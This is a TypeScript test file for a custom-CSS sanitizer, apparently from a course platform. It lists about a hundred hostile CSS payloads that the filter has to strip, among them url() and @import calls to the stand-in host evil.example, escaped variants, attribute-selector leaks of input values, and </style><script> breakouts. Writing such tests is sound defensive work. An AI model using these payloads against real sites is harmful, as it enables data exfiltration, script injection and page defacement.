import { parse, walk } from 'css-tree'
import { describe, expect, it } from 'vitest'
import { cleanStyles } from './style.rules.ts'
import { createCleaner } from './style-thread.ts'

const SCOPE = 'course-content'
const load = (url: string) => `.a{background:${url}}`
const payloads = [
  load('url(https://evil.example/x)'),
  load('url("https://evil.example/x")'),
  load("url('//evil.example')"),
  load('URL(https://evil.example)'),
  load('u\\72l(https://evil.example)'),
  load('\\75\\72\\6c(https://evil.example)'),
  load('u\\000072 l(https://evil.example)'),
  load('url(data:image/svg+xml,<svg/>)'),
  load('url(javascript:alert(1))'),
  load('image-set("https://evil.example/x" 1x)'),
  load('-webkit-image-set(url(x) 1x)'),
  load('image("https://evil.example/x")'),
  load('cross-fade(url(x), red)'),
  load('element(#x)'),
  load('paint(x)'),
  load('src("https://evil.example")'),
  load('expression(alert(1))'),
  load('attr(data-x url)'),
  load('env(x)'),
  load('var(--x, url(https://evil.example))'),
  '.a{--x:url(https://evil.example);background:var(--x)}',
  '.a{--x:u\\72l(https://evil.example)}',
  '.a{cursor:url(x),auto}',
  '.a{list-style:url(x)}',
  '.a{border-image:url(x)}',
  '.a{mask:url(x)}',
  '.a{filter:url(#x)}',
  '.a{clip-path:url(#x)}',
  '.a::after{content:url(x)}',
  '.a{behavior:url(x)}',
  '.a{-moz-binding:url(x)}',
  '.a{position:fixed}',
  '.a{POSITION:FIXED}',
  '.a{positio\\6e:fixed}',
  '.a{position:fi\\78 ed}',
  '.a{position:fixed!important}',
  '.a{position:/**/fixed}',
  '.a{--p:fixed;position:var(--p)}',
  '@import "https://evil.example/x.css";',
  '@import url(https://evil.example/x.css);',
  '@\\69mport "x";',
  '@IMPORT "x";',
  '@font-face{font-family:x;src:url(https://evil.example/x)}',
  '@namespace svg url(http://www.w3.org/2000/svg);',
  '@charset "utf-7";',
  '@page{margin:0}',
  '@layer x{body{display:none}}',
  '@container x (width>1px){body{display:none}}',
  '@property --x{syntax:"<url>";inherits:true;initial-value:url(x)}',
  '@scope (body){*{display:none}}',
  '@supports (background:url(https://evil.example)){.a{color:red}}',
  '@media screen{@import "x";}',
  '@media screen{body{display:none}}',
  '@keyframes x{from{background:url(https://evil.example)}}',
  'body{display:none}',
  'html{display:none}',
  ':root{--x:1}',
  ':host{display:none}',
  ':ROOT{display:none}',
  'ht\\6dl{display:none}',
  ':is(body,html) *{display:none}',
  ':where(:root) .x{display:none}',
  ':not(html){display:none}',
  'a:visited{color:red}',
  'a:vi\\73ited{color:red}',
  '.course-content ~ *{display:none}',
  '.course-content + .nav{display:none}',
  '~ .x{display:none}',
  '+ .x{display:none}',
  '& .x{display:none}',
  '.a{& + .b{display:none}}',
  '.a{.b{background:url(x)}}',
  '} body{display:none}',
  '.a{color:red}} body{display:none} .b{',
  '.a{color:red;}}} *{display:none}',
  '</style><script>alert(1)</script>',
  '.a{content:"</style><script>alert(1)</script>"}',
  '/* </style><script>alert(1)</script> */.a{color:red}',
  '<!-- body{display:none} -->',
  '.a{color:red;x:<!--}',
  '::part(x){display:none}',
  '::slotted(x){display:none}',
  '::view-transition{display:none}',
  '::backdrop{display:none}',
  '*|html{display:none}',
  'svg|a{display:none}',
  '.a{background:url(',
  '.a{background:url("x',
  '@media screen{.a{color:red',
  '@import "x',
  '.a{color:red;background:\\75rl(x)',
  'a[href^="https"]{background:url(https://evil.example/?leak)}',
  'input[value^="a"]{background:url(https://evil.example/a)}',
  '.a{color:red;/*}*/background:url(x)}',
  '.a{font:12px/1 url(x)}',
  '@media url(x){.a{color:red}}',
  '.a{width:calc(1px + url(x))}',
  '.a{background:linear-gradient(url(x),red)}',
]

/** The dangerous parts of styles as a browser reads them. */
function dangers(css: string): string[] {
  const found: string[] = []
  if (/<\/|<!|-->/.test(css)) found.push('tag')
  walk(parse(css, { parseCustomProperty: true }), function (node) {
    if (node.type === 'Url') found.push('url')
    if (node.type === 'Raw' && node.value.trim() !== '' && !/^[\s;]*$/.test(node.value)) found.push(`raw ${node.value}`)
    if (node.type === 'Atrule' && !['media', 'supports', 'keyframes'].includes(node.name.toLowerCase()))
      found.push(`@${node.name}`)
    if (
      node.type === 'Function' &&
      /^(url|src|image|image-set|-webkit-image-set|element|paint|expression|cross-fade|attr|env)$|\\/i.test(node.name)
    )
      found.push(node.name)
    if (
      node.type === 'Identifier' &&
      /^position$/i.test(this.declaration?.property ?? '') &&
      /^fixed$|\\/i.test(node.name)
    )
      found.push(node.name)
    if (node.type === 'PseudoClassSelector' && /^(root|host|visited)$|\\/i.test(node.name)) found.push(`:${node.name}`)
    if (node.type === 'TypeSelector' && /^(html|body)$|\\|\|/i.test(node.name)) found.push(node.name)
    if (node.type === 'NestingSelector') found.push('&')
  })
  return found
}

describe('X2 the custom CSS filter', () => {
  it('is tested with payloads that are harmful', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(60)
  })
  it.each(payloads)('removes what is dangerous from %j', (payload) => {
    for (const text of [
      payload,
      `.before{color:red}\n${payload}`,
      `${payload}\n.after{color:red}`,
      `@media screen{${payload}}`,
    ]) {
      const { source, scoped } = cleanStyles(text, SCOPE)
      expect(dangers(source)).toEqual([])
      expect(dangers(scoped)).toEqual([])
      walk(parse(scoped), function (node) {
        if (node.type !== 'Selector' || this.atrule?.name === 'keyframes' || this.function) return
        if (
          node !== undefined &&
          this.rule?.prelude.type === 'SelectorList' &&
          this.rule.prelude.children.toArray().includes(node)
        ) {
          const [first, second] = node.children.toArray()
          expect(first).toMatchObject({ type: 'ClassSelector', name: SCOPE })
          if (second?.type === 'Combinator') expect([' ', '>']).toContain(second.name)
        }
      })
      const again = cleanStyles(source, SCOPE)
      expect([again.source, again.scoped, again.notes]).toEqual([source, scoped, []])
    }
  })
  it('leaves the rest as typed, with comments and line breaks', () => {
    const source = `/* Cards */\n.portal-card, .portal-card:hover {\n  color: #fff; /* white */\n  background: linear-gradient(#000, rgb(1 2 3 / 50%));\n  position: relative;\n}\n\n@media (max-width: 40em) {\n  .lesson-content > h2::before { content: "→ "; }\n}\n`
    expect(cleanStyles(source, SCOPE)).toMatchObject({ source, notes: [] })
  })
  it('reports what it removed, and where', () => {
    expect(cleanStyles('.a{color:red}\n.b{\n  background: url(x);\n}', SCOPE).notes).toEqual([
      { line: 3, column: 3, text: 'Custom CSS cannot load anything: url() is not allowed.' },
    ])
  })
  it('keeps animation names separate from those of the page', () => {
    const { scoped } = cleanStyles('@keyframes spin{to{opacity:0}}.a{animation:spin 1s,other 2s}', SCOPE)
    expect(scoped).toBe(
      '@keyframes course-content--spin{to{opacity:0}}.course-content .a{animation:course-content--spin 1s,other 2s}',
    )
  })
  it('reads large texts off the main thread, with the same result', async () => {
    const sheets = [
      { source: '.a{color:red;position:fixed}\n'.repeat(1500), scope: SCOPE },
      { source: '.b{background:url(x);color:blue}', scope: 'lesson-component-1' },
    ]
    let turns = 0
    let isDone = false
    const turn = () => {
      turns++
      if (!isDone) setImmediate(turn)
    }
    setImmediate(turn)
    const clean = await createCleaner(sheets)
    isDone = true
    // On the main thread, nothing else would have run.
    expect(turns).toBeGreaterThan(1)
    for (const { source, scope } of sheets) expect(clean(source, scope)).toEqual(cleanStyles(source, scope))
  })
  it('handles a hostile text of maximum length quickly', () => {
    for (const text of ['(', '.a{', '@media ', '.a:not(', '.a{b:((', '}', '/*', '"', '.a{x:url(y);}'])
      expect(() => cleanStyles(text.repeat(Math.floor(100_000 / text.length)), SCOPE)).not.toThrow()
  })
})
